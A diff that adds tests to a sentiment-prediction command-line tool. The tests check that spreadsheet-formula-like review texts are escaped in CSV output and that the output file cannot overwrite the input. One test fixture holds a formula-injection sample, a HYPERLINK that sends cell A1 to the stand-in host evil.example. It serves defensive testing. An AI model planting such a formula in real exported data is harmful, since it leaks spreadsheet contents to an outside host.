@@ -1,5 +1,6 @@
 """src/predict.py as a user runs it: texts, files of each type, standard input, JSON, and every bad input."""
 
+import io
 import json
 
 import numpy as np
@@ -177,3 +178,36 @@ def test_out_is_a_folder(trained, tmp_path):
 def test_bad_flags(trained, flags, fragment):
     result = run_predict("--model", trained[0], *flags)
     assert result.returncode == 2 and fragment in result.stderr and "Traceback" not in result.stderr
+
+
+# Reviews that a spreadsheet would open as formulas (the first a live link that sends cell A1 away).
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click") a great film', "+1 for the cast, superb",
+            "-awful, the worst", "@everyone watch it, wonderful"]
+
+
+def test_csv_cells_that_look_like_formulas_are_shown_as_text(exported, tmp_path):
+    """CSV for people: such a text gets a leading apostrophe, so Excel and LibreOffice show it and run nothing;
+    --keep-formulas (for programs) and JSON keep the texts as they are."""
+    path = tmp_path / "reviews.csv"
+    pd.DataFrame({"Reviews": [*FORMULAS, "a fine film"]}).to_csv(path, index=False)
+    for flags, want in (([], ["'" + t for t in FORMULAS]), (["--keep-formulas"], FORMULAS)):
+        out = tmp_path / "predictions.csv"
+        result = run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--out", out, *flags)
+        assert result.returncode == 0, result.stderr[-3000:]
+        assert list(pd.read_csv(out, keep_default_na=False)["text"]) == [*want, "a fine film"]
+    result = run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--json")
+    assert [json.loads(line)["text"] for line in result.stdout.splitlines()] == [*FORMULAS, "a fine film"]
+
+    from imdb_distilbert.training import evaluation
+
+    worst = pd.DataFrame({"review": [FORMULAS[0], "fine"], "true_label": ["pos", "neg"],
+                          "predicted_label": ["neg", "pos"], "probability": [0.9, 0.8], "loss": [2.3, 1.6]})
+    assert list(pd.read_csv(io.StringIO(evaluation.top_losses_csv(worst)))["review"]) == ["'" + FORMULAS[0], "fine"]
+
+
+def test_out_may_not_be_the_file_being_read(exported, tmp_path):
+    path = tmp_path / "reviews.csv"
+    path.write_text("Reviews\na fine film\n")
+    assert_user_error(run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--out",
+                                  tmp_path / "." / "reviews.csv"), "is the --file being read")
+    assert path.read_text() == "Reviews\na fine film\n"
